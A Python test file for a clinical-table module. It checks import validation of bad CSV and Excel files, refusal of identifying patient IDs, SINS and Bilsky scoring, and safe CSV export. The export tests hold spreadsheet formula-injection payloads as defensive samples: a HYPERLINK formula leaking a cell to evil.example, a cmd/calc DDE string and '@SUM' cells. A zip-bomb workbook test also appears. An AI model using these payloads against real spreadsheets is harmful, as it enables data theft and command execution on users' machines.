"""Clinical table schema: import validation (bad-CSV corpus), SINS/Bilsky helpers, safe export."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.clinical import (
    COHORT_COLUMNS,
    REQUIRED_COLUMNS,
    SINS_POINTS,
    RowError,
    as_cohort_frame,
    export_csv,
    load_clinical_table,
    neutralise_cell,
    parse_bilsky,
    sins_category,
    sins_total,
    validate_clinical,
)
from core.features import features_from_case
from core.vocab import BilskyGrade

BAD = Path(__file__).parent / "data" / "bad_csv"
HEADER = ("patient_id,study_date,age,sex,vas,ecog,analgesic_step,bone_modifying_agent,"
          "prior_radiotherapy,pathologic_fracture,neurologic_deficit")
PSEUDO = ("is not a pseudonymous code (letters, digits, '-' and '_', with at least one "
          "digit; at most 64 characters)")
NAME_SHAPED = ("looks like a person's name (two words joined by '.', '_' or a space); use a "
               "pseudonymous code")


def errors_of(name: str) -> list[tuple[int, str, str]]:
    return [(e.row, e.column, e.reason) for e in load_clinical_table(BAD / name).errors]


# ----------------------------------------------------------------- corpus: row errors


def test_wrong_types_reports_every_bad_cell_without_rounding():
    result = load_clinical_table(BAD / "wrong_types.csv")
    assert [(e.row, e.column, e.reason) for e in result.errors] == [
        (2, "ecog", "'7.5' is not a whole number from 0 to 4"),
        (3, "study_date", "'03/04/2024' is not an ISO date (YYYY-MM-DD)"),
        (3, "age", "'sixty' is not a whole number from 18 to 90"),
        (3, "bone_modifying_agent",
         "'maybe' is not yes/no (true, false, yes, no, y, n, 1 or 0)"),
        (3, "sins_pain", "'2' is not one of 0, 1, 3"),
        (3, "bilsky_grade", "'1' is ambiguous; write 1a, 1b or 1c"),
        (4, "study_date", "'2024-02-30' is not a real calendar date"),
        (4, "sex", "'X' is not one of F, M, other, unknown"),
    ]
    assert result.n_rows == 3
    assert result.rows.empty
    assert result.invalid_rows == (2, 3, 4)


def test_vas_out_of_range_and_missing():
    result = load_clinical_table(BAD / "vas_out_of_range.csv")
    reason = "is not a number from 0 to 10 with at most one decimal"
    assert [(e.row, e.column, e.reason) for e in result.errors] == [
        (2, "vas", f"'11' {reason}"),
        (3, "vas", f"'-1' {reason}"),
        (4, "vas", f"'7.25' {reason}"),
        (5, "vas", "required value is missing"),
    ]
    assert list(result.rows.index) == [6]
    assert result.rows["vas"].tolist() == [7.5]


def test_vas_may_be_missing_when_not_required():
    result = load_clinical_table(BAD / "vas_out_of_range.csv", require_vas=False)
    assert [e.row for e in result.errors] == [2, 3, 4]
    assert list(result.rows.index) == [5, 6]
    assert np.isnan(result.rows.loc[5, "vas"])


def test_duplicate_patient_study_is_an_error_on_every_row_involved():
    result = load_clinical_table(BAD / "duplicate_study.csv")
    assert [(e.row, e.column, e.reason) for e in result.errors] == [
        (2, "study_date", "2024-01-15 for patient P001 is duplicated (also row 4)"),
        (4, "study_date", "2024-01-15 for patient P001 is duplicated (also row 2)"),
    ]
    assert result.rows["patient_id"].tolist() == ["P002"]


def test_sins_total_inconsistent_with_components():
    assert errors_of("sins_inconsistent.csv") == [
        (2, "sins_total", "12 does not equal the sum of the SINS components (10)"),
        (3, "sins_total", "17 cannot be reached with the given SINS components (possible 8-10)"),
    ]
    rows = load_clinical_table(BAD / "sins_inconsistent.csv").rows
    assert rows.loc[4, "sins_total"] == 10


def test_imaging_columns_must_be_consistent():
    assert errors_of("imaging_inconsistent.csv") == [
        (2, "lesion_count", "5 does not equal the sum of the regional lesion counts (4)"),
        (3, "involved_levels", "3 is inconsistent with lesion_count 2 (every involved level "
                               "holds at least one lesion)"),
        (4, "max_level_high_intensity_ratio",
         "0.3 is below high_intensity_ratio (0.4); the worst level cannot be below the "
         "overall ratio"),
        (5, "high_intensity_ratio", "'1.5' is not a fraction from 0 to 1"),
    ]


def test_identifying_patient_ids_and_ages_are_refused():
    assert errors_of("phi_patient_id.csv") == [
        # The refused ID is never repeated in the message (it may be a name).
        (2, "patient_id", NAME_SHAPED),
        (3, "patient_id", "looks like it contains a date; use a pseudonymous code"),
        (4, "patient_id", "looks like a record, phone or national ID number; "
                          "use a pseudonymous code"),
        (5, "patient_id", PSEUDO),
        (6, "patient_id", "looks like a record, phone or national ID number; "
                          "use a pseudonymous code"),
        (7, "age", "'92' is above 90; ages over 89 identify people (HIPAA Safe Harbor), "
                   "enter 90 for 90 or older"),
    ]


def test_formula_injection_in_cells_is_refused_on_import():
    assert errors_of("formula_injection.csv") == [
        (2, "patient_id", PSEUDO),
        (3, "primary_tumor", "'@SUM(1+1)' is not a tumour name (a letter first, then letters, "
                             "digits, spaces or ()/+,.'-; at most 64 characters)"),
    ]


def test_ragged_rows_are_errors():
    assert errors_of("ragged_rows.csv") == [
        (2, "(row)", "has 12 cells but the header has 11"),
        (3, "(row)", "has 8 cells but the header has 11"),
    ]


def test_patient_rows_must_agree_on_patient_fields():
    assert errors_of("patient_inconsistent.csv") == [
        (3, "sex", "'M' differs from row 2 of the same patient ('F')"),
        (3, "primary_tumor", "'lung' differs from row 2 of the same patient ('breast')"),
    ]


# ----------------------------------------------------------------- corpus: file errors


@pytest.mark.parametrize(("name", "message"), [
    ("empty.csv", "empty.csv is empty."),
    ("header_only.csv", "header_only.csv has a header but no data rows."),
    ("missing_columns.csv", "missing_columns.csv is missing required column(s): age, ecog."),
    ("latin1.csv", "latin1.csv is not UTF-8 encoded (byte 0xe9 on line 2); save it as CSV "
                   "UTF-8."),
    ("utf16.csv", "utf16.csv is UTF-16 encoded; save it as CSV UTF-8."),
    ("semicolon.csv", "semicolon.csv looks semicolon-separated; save it comma-separated (CSV)."),
    ("unknown_column.csv", "unknown_column.csv has unknown column(s) 'name', 'date_of_birth'; "
                           "only the documented columns are accepted (extra columns may carry "
                           "identifying data)."),
])
def test_file_level_problems_are_one_clear_error(name, message):
    with pytest.raises(ValueError) as info:
        load_clinical_table(BAD / name)
    assert str(info.value) == message


def test_utf16_without_bom_and_missing_file():
    data = (HEADER + "\nP1,2024-01-02,60,F,5,1,1,no,no,no,no\n").encode("utf-16-le")
    with pytest.raises(ValueError, match="contains NUL bytes"):
        load_clinical_table(data, "x.csv")
    with pytest.raises(FileNotFoundError):
        load_clinical_table(BAD / "does_not_exist.csv")
    with pytest.raises(ValueError, match=r"x\.xls is a \.xls file"):
        load_clinical_table(b"anything", "x.xls")
    with pytest.raises(ValueError, match=r"^x\.xlsx is not a readable \.xlsx workbook"):
        load_clinical_table(b"PK\x03\x04 not really a zip", "x.xlsx")


# ----------------------------------------------------------------- accepted input


def test_utf8_bom_bool_spellings_whole_decimals_and_blank_lines():
    text = (
        "\ufeff" + HEADER.upper().replace("PATIENT_ID", " Patient_ID ") + ",primary_tumor\n"
        "P1,2024-01-02,60,f,5,2.0,1,Yes,NO,1,0,\n"
        "\n"
        "P2,2024-01-03T00:00:00,61,other,6.5,0,3,y,n,TRUE,false,Lung\n"
        "P3,2024-01-04,62,UNKNOWN,0,,,true,,,,kidney\n"
    )
    result = load_clinical_table(text.encode("utf-8"), "upload.csv")
    assert result.errors == ()
    assert result.n_rows == 3
    rows = result.rows
    assert list(rows.index) == [2, 4, 5]  # the blank line is spreadsheet row 3
    assert rows["sex"].tolist() == ["F", "other", "unknown"]
    assert rows["primary_tumor"].tolist() == ["breast", "lung", "kidney"]
    assert rows["ecog"].tolist()[:2] == [2.0, 0.0]
    assert rows["bone_modifying_agent"].tolist() == [True, True, True]
    assert rows["pathologic_fracture"].tolist() == [True, True, None]
    assert rows["study_date"].tolist() == [pd.Timestamp("2024-01-02"),
                                           pd.Timestamp("2024-01-03"),
                                           pd.Timestamp("2024-01-04")]
    assert rows["synthetic"].tolist() == [False, False, False]
    assert list(rows.columns) == list(COHORT_COLUMNS)


def test_quoted_newline_counts_as_one_spreadsheet_row():
    text = (HEADER + ",primary_tumor\n"
            'P1,2024-01-02,60,F,5,1,1,no,no,no,no,"breast\nspread"\n'
            "P2,2024-01-02,60,F,55,1,1,no,no,no,no,breast\n")
    result = load_clinical_table(text.encode(), "x.csv")
    assert [(e.row, e.column) for e in result.errors] == [(2, "primary_tumor"), (3, "vas")]


def test_excel_import_uses_worksheet_rows_and_native_types(tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append([*HEADER.split(","), "bilsky_grade", "sins_total"])
    sheet.append(["P1", dt.datetime(2024, 1, 2), 60, "F", 5, 1, 2, True, False, 0, 1, 2, 7])
    sheet.append(["P2", dt.datetime(2024, 1, 2, 13, 30), 60, "F", 7.5, 7.5, 2, True, False,
                  False, False, "1b", None])
    sheet.append([None] * 13)
    sheet.append([1001, "2024-03-04", 90.0, "M", 10, 4, 3, "yes", "no", "no", "no", 1, 18])
    path = tmp_path / "cohort.xlsx"
    book.save(path)

    result = load_clinical_table(path)
    assert [(e.row, e.column, e.reason) for e in result.errors] == [
        (3, "study_date", "2024-01-02T13:30:00 has a time of day; give the date only"),
        (3, "ecog", "7.5 is not a whole number from 0 to 4"),
        (5, "bilsky_grade", "1 is ambiguous; write 1a, 1b or 1c"),
    ]
    assert result.rows["patient_id"].tolist() == ["P1"]
    assert result.rows["bilsky_grade"].tolist() == ["2"]
    assert result.rows.loc[2, "sins_total"] == 7
    # The same workbook as bytes (an upload) without a name is recognised by its signature.
    again = load_clinical_table(path.read_bytes())
    assert [(e.row, e.column) for e in again.errors] == [(3, "study_date"), (3, "ecog"),
                                                        (5, "bilsky_grade")]


def test_rows_map_onto_the_model_features():
    result = load_clinical_table(BAD / "sins_inconsistent.csv")
    record = result.rows.to_dict(orient="records")[0]
    features = features_from_case(record)
    # SINS 10 with a mechanical-pain component of 3: the model reads the 7 points
    # without pain (pain must not predict pain); the full total stays a clinical value.
    assert record["sins_total"] == 10 and record["sins_pain"] == 3
    assert features["sins_without_pain"] == 7
    assert features["lesion_count"] is None
    assert features["ecog"] == 1


def test_validate_clinical_names_the_first_bad_value():
    good = {"patient_id": "P1", "study_date": "2024-01-02", "vas": 3, "sins_location": 1,
            "sins_pain": 0, "sins_bone_lesion": 0, "sins_alignment": 0, "sins_collapse": 0,
            "sins_posterolateral": 0}
    row = validate_clinical(good)
    assert row["sins_total"] == 1
    assert row["study_date"] == dt.date(2024, 1, 2)
    assert row["primary_tumor"] == "breast"
    with pytest.raises(ValueError, match=r"^ecog '7\.5' is not a whole number from 0 to 4\.$"):
        validate_clinical({**good, "ecog": "7.5"})
    with pytest.raises(ValueError, match=r"^vas required value is missing\.$"):
        validate_clinical({**good, "vas": None}, require_vas=True)
    with pytest.raises(ValueError, match=r"^weight is not a known column\.$"):
        validate_clinical({**good, "weight": 70})
    with pytest.raises(ValueError, match="is in the future"):
        validate_clinical({**good, "study_date": dt.date.today() + dt.timedelta(days=1)})


def test_required_columns_are_part_of_the_cohort_columns():
    assert set(REQUIRED_COLUMNS) <= set(COHORT_COLUMNS)
    assert str(RowError(3, "vas", "x")) == "row 3, column vas: x"


# ----------------------------------------------------------------- SINS / Bilsky


def test_sins_total_and_category_boundaries():
    parts = {"location": 3, "pain": 3, "bone_lesion": 2, "alignment": 4, "collapse": 3,
             "posterolateral": 3}
    assert sins_total(parts) == 18
    assert sins_total({f"sins_{k}": 0 for k in parts}) == 0
    with pytest.raises(ValueError, match=r"^sins_pain '2' is not one of 0, 1, 3\.$"):
        sins_total({**parts, "pain": "2"})
    with pytest.raises(ValueError, match="sins_collapse is missing"):
        sins_total({k: v for k, v in parts.items() if k != "collapse"})
    assert [sins_category(t) for t in (0, 6, 7, 12, 13, 18)] == [
        "stable", "stable", "potentially unstable", "potentially unstable", "unstable",
        "unstable"]
    for bad in (-1, 19, 6.5, "x", None):
        with pytest.raises(ValueError):
            sins_category(bad)


@given(st.fixed_dictionaries({k: st.sampled_from(v) for k, v in SINS_POINTS.items()}))
@settings(max_examples=60, deadline=None)
def test_sins_total_is_the_sum_of_published_points(parts):
    total = sins_total(parts)
    assert total == sum(parts.values())
    assert 0 <= total <= 18
    assert sins_category(total) in ("stable", "potentially unstable", "unstable")


def test_parse_bilsky():
    assert [parse_bilsky(v) for v in ("0", "1A", " 1b ", "1c", 2, 3.0, np.int64(0))] == [
        "0", "1a", "1b", "1c", "2", "3", "0"]
    for bad in ("1", 1, "4", "1d", None, "", True):
        with pytest.raises(ValueError):
            parse_bilsky(bad)


def test_bilsky_cells_and_the_vocabulary_read_grades_alike():
    # One reading of Bilsky text: the cell parser and the feature path (BilskyGrade.parse)
    # accept and refuse the same values with the same messages. Before they were one,
    # features read "2e0" or "0_0" as grades (float() parsing) while the import refused them.
    for value in ("0", " 1B ", "2.0", "+3", 2, 3.0, np.int64(0), np.float64(2.0)):
        assert parse_bilsky(value) == BilskyGrade.parse(value).label
    for value in ("2e0", "0_0", "inf", "\uff12", "2.0000000000000000001", "4", 1.5, True):
        with pytest.raises(ValueError, match="is not one of 0, 1a, 1b, 1c, 2, 3") as cell:
            parse_bilsky(value)
        with pytest.raises(ValueError) as vocab:
            BilskyGrade.parse(value)
        assert str(cell.value) == str(vocab.value)
    with pytest.raises(ValueError, match=r"^bilsky_grade '1\.0' is ambiguous; write 1a, 1b"):
        BilskyGrade.parse("1.0")
    with pytest.raises(ValueError, match=r"^bilsky_grade TRUE is not one of"):
        BilskyGrade.parse(True)
    with pytest.raises(ValueError, match=r"^bilsky_grade is missing\.$"):
        parse_bilsky(" ")


def test_sins_tables_and_category_are_the_vocabulary_s():
    import core.vocab

    assert SINS_POINTS is core.vocab.SINS_POINTS
    assert sins_category is core.vocab.sins_category
    assert set(REQUIRED_COLUMNS) | set(core.vocab.SINS_COMPONENTS) <= set(COHORT_COLUMNS)


# ----------------------------------------------------------------- export


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


def test_export_neutralises_formula_injection_but_keeps_numbers():
    with open(BAD / "formula_injection.csv", newline="", encoding="utf-8") as handle:
        raw = pd.DataFrame(list(csv.DictReader(handle)))
    frame = raw.assign(delta=[-3.5, 2.0, np.nan], text_number=["-3", "+1.5", "-2e3"],
                       cmd=["-2+3+cmd|' /C calc'!A0", "\t=1+1", " @x"])
    cells = _cells(export_csv(frame))
    header, first, second, third = cells
    col = {name: i for i, name in enumerate(header)}
    assert first[col["patient_id"]] == \
        "'=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click\")"
    assert second[col["primary_tumor"]] == "'@SUM(1+1)"
    assert third[col["patient_id"]] == "P003"
    assert [row[col["delta"]] for row in cells[1:]] == ["-3.5", "2", ""]
    assert [row[col["text_number"]] for row in cells[1:]] == ["-3", "+1.5", "-2e3"]
    assert [row[col["cmd"]] for row in cells[1:]] == [
        "'-2+3+cmd|' /C calc'!A0", "'\t=1+1", "' @x"]


@given(st.text(min_size=1, max_size=30))
@settings(max_examples=200, deadline=None)
def test_no_exported_text_cell_can_start_a_formula(text):
    safe = neutralise_cell(text)
    assert safe in (text, "'" + text)
    risky = text.lstrip(" ")[:1] in set("=+-@\t\r\n＝＋－＠") or text[:1] in set("\t\r\n")
    number = pd.to_numeric(pd.Series([text]), errors="coerce").notna().iloc[0]
    if risky and not (number and text.strip() == text):
        assert safe.startswith("'")


def test_export_formats_types_and_round_trips_through_import():
    result = load_clinical_table(BAD / "sins_inconsistent.csv")
    data = export_csv(result.rows)
    assert not data.startswith(b"\xef\xbb\xbf")
    assert export_csv(result.rows, bom=True).startswith(b"\xef\xbb\xbf")
    cells = _cells(data)
    assert cells[0] == list(COHORT_COLUMNS)
    row = dict(zip(cells[0], cells[1], strict=True))
    assert row["study_date"] == "2024-01-15"
    assert row["age"] == "61"
    assert row["bone_modifying_agent"] == "true"
    assert row["lesion_count"] == ""
    again = load_clinical_table(data, "export.csv")
    assert again.errors == ()
    pd.testing.assert_frame_equal(again.rows.reset_index(drop=True),
                                  result.rows.reset_index(drop=True))


def test_as_cohort_frame_types():
    frame = as_cohort_frame([{"patient_id": "P1", "study_date": "2024-01-02", "age": 50,
                              "pathologic_fracture": None, "bilsky_grade": None}])
    assert list(frame.columns) == list(COHORT_COLUMNS)
    assert frame["age"].dtype == np.float64
    assert str(frame["study_date"].dtype) == "datetime64[us]"
    assert frame["pathologic_fracture"].tolist() == [None]
    assert frame["synthetic"].dtype == bool
    assert pd.isna(frame.loc[0, "bilsky_grade"])


# ----------------------------------------------------------------- review: edge cases


def _one_row(**cells: str) -> str:
    base = {"patient_id": "P1", "study_date": "2024-01-02", "age": "60", "sex": "F",
            "vas": "5", "ecog": "1", "analgesic_step": "1", "bone_modifying_agent": "no",
            "prior_radiotherapy": "no", "pathologic_fracture": "no",
            "neurologic_deficit": "no", "primary_tumor": ""}
    base.update(cells)
    return ",".join(base) + "\n" + ",".join(base.values()) + "\n"


@pytest.mark.parametrize("marker", ["NA", "nan", "NULL", "None", "n/a", "N/A", "missing"])
def test_missing_value_markers_are_not_taken_as_text_values(marker):
    # "n/a" as a tumour name or "NA" as a patient code would be stored verbatim and turn
    # into NaN in any pandas-based reader: refuse them, as every numeric column does.
    tumour = load_clinical_table(_one_row(primary_tumor=marker).encode(), "x.csv")
    assert [(e.row, e.column) for e in tumour.errors] == [(2, "primary_tumor")]
    assert "missing-value marker" in tumour.errors[0].reason
    if "/" not in marker:
        pid = load_clinical_table(_one_row(patient_id=marker).encode(), "x.csv")
        assert [(e.row, e.column) for e in pid.errors] == [(2, "patient_id")]
        assert "missing-value marker" in pid.errors[0].reason
    # A tumour of unknown primary is still a valid entry.
    assert load_clinical_table(_one_row(primary_tumor="unknown").encode(), "x.csv").ok


@pytest.mark.parametrize(("column", "value"), [
    ("vas", "\uff15"),  # full-width 5
    ("age", "\u0666\u0660"),  # Arabic-Indic 60
    ("ecog", "\u0661"),
    ("study_date", "\uff12\uff10\uff12\uff14-01-02"),
])
def test_non_ascii_digits_are_refused_not_converted(column, value):
    result = load_clinical_table(_one_row(**{column: value}).encode(), "x.csv")
    assert [(e.row, e.column) for e in result.errors] == [(2, column)]


def test_zero_decimal_yes_no_cells_match_excel_numbers():
    # Excel 1.0 / 0.0 cells are accepted as yes/no; the same values in a CSV must be too
    # (the module promises that 2.0 counts as 2); other numbers stay errors.
    ok = load_clinical_table(_one_row(bone_modifying_agent="1.0",
                                      prior_radiotherapy="0.0").encode(), "x.csv")
    assert ok.errors == ()
    assert ok.rows[["bone_modifying_agent", "prior_radiotherapy"]].values.tolist() == [
        [True, False]]
    bad = load_clinical_table(_one_row(bone_modifying_agent="0.5").encode(), "x.csv")
    assert [(e.column, e.reason) for e in bad.errors] == [
        ("bone_modifying_agent", "'0.5' is not yes/no (true, false, yes, no, y, n, 1 or 0)")]


def test_workbook_with_a_far_away_cell_is_refused_quickly(tmp_path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(HEADER.split(","))
    sheet.append(["P1", "2024-01-02", 60, "F", 5, 1, 1, "no", "no", "no", "no"])
    sheet.cell(row=1_000_000, column=200, value="stray")
    path = tmp_path / "far.xlsx"
    book.save(path)
    with pytest.raises(ValueError, match=r"far\.xlsx has cells up to row 1000000"):
        load_clinical_table(path)


def test_workbook_that_unpacks_too_large_is_refused(tmp_path, monkeypatch):
    import zipfile

    from openpyxl import Workbook

    import core.clinical.tables as clinical  # the module that reads workbooks

    book = Workbook()
    book.active.append(HEADER.split(","))
    path = tmp_path / "bomb.xlsx"
    book.save(path)
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", b"\0" * 200_000)
    monkeypatch.setattr(clinical, "MAX_XLSX_UNPACKED_BYTES", 100_000)
    with pytest.raises(ValueError, match=r"^bomb\.xlsx unpacks to more than"):
        load_clinical_table(path)


def test_plain_number_exemption_is_exact():
    assert neutralise_cell("-3") == "-3"
    assert neutralise_cell("-3\n") == "'-3\n"
    assert neutralise_cell("-\uff13") == "'-\uff13"  # full-width digit is not a number


# ----------------------------------------------------------------- neurologic deficit


def _deficit_table(values: list[str], **extra: list[str]) -> bytes:
    header = HEADER + "".join(f",{c}" for c in extra)
    lines = [header]
    for i, value in enumerate(values):
        cells = [f"P{i}", "2024-01-02", "60", "F", "5", "1", "1", "no", "no", "no", value]
        cells += [v[i] for v in extra.values()]
        lines.append(",".join(cells))
    return ("\n".join(lines) + "\n").encode()


def test_neurologic_deficit_has_three_states_and_reads_old_yes_no_with_a_warning():
    values = ["none", "stable", "new_or_progressive", "New or progressive", "yes", "0",
              "TRUE", "stable", "maybe", "1"]
    result = load_clinical_table(_deficit_table(values), "deficit.csv")
    assert [(e.row, e.column, e.reason) for e in result.errors] == [
        (10, "neurologic_deficit", "'maybe' is not one of none, stable, new_or_progressive")]
    assert result.rows["neurologic_deficit"].tolist() == [
        "none", "stable", "new_or_progressive", "new_or_progressive", "new_or_progressive",
        "none", "new_or_progressive", "stable", "new_or_progressive"]
    # rows 6-8 and 11 were yes/no (row 10 is invalid, not imported, not listed)
    assert len(result.warnings) == 1
    warning = result.warnings[0]
    assert "row(s) 6-8, 11:" in warning
    assert "yes was read as new_or_progressive and no as none" in warning
    # a table in the new format has no warning
    assert load_clinical_table(_deficit_table(["none", "stable"]), "x.csv").warnings == ()


def test_old_yes_no_deficit_feeds_the_model_as_the_safer_reading():
    result = load_clinical_table(_deficit_table(["yes", "no", "stable"]), "old.csv")
    codes = [features_from_case(r)["neurologic_deficit"]
             for r in result.rows.to_dict(orient="records")]
    assert codes == [2.0, 0.0, 1.0]
    assert validate_clinical({"patient_id": "P1", "study_date": "2024-01-02",
                              "neurologic_deficit": True})["neurologic_deficit"] == (
        "new_or_progressive")


def test_neuropathic_pain_is_an_optional_yes_no_column():
    assert "neuropathic_pain" not in REQUIRED_COLUMNS
    assert "neuropathic_pain" in COHORT_COLUMNS
    absent = load_clinical_table(_deficit_table(["none"]), "x.csv")
    assert absent.ok and absent.rows["neuropathic_pain"].tolist() == [None]
    given_ = load_clinical_table(
        _deficit_table(["none", "stable", "none"], neuropathic_pain=["yes", "", "maybe"]),
        "x.csv")
    assert [(e.row, e.column) for e in given_.errors] == [(4, "neuropathic_pain")]
    assert given_.rows["neuropathic_pain"].tolist() == [True, None]


def test_row_ranges_list_every_row_compactly():
    from core.clinical.rows import row_ranges

    assert row_ranges([2, 3, 4, 9, 12, 13]) == "2-4, 9, 12-13"
    assert row_ranges([5]) == "5"
    assert row_ranges([7, 2, 3]) == "2-3, 7"
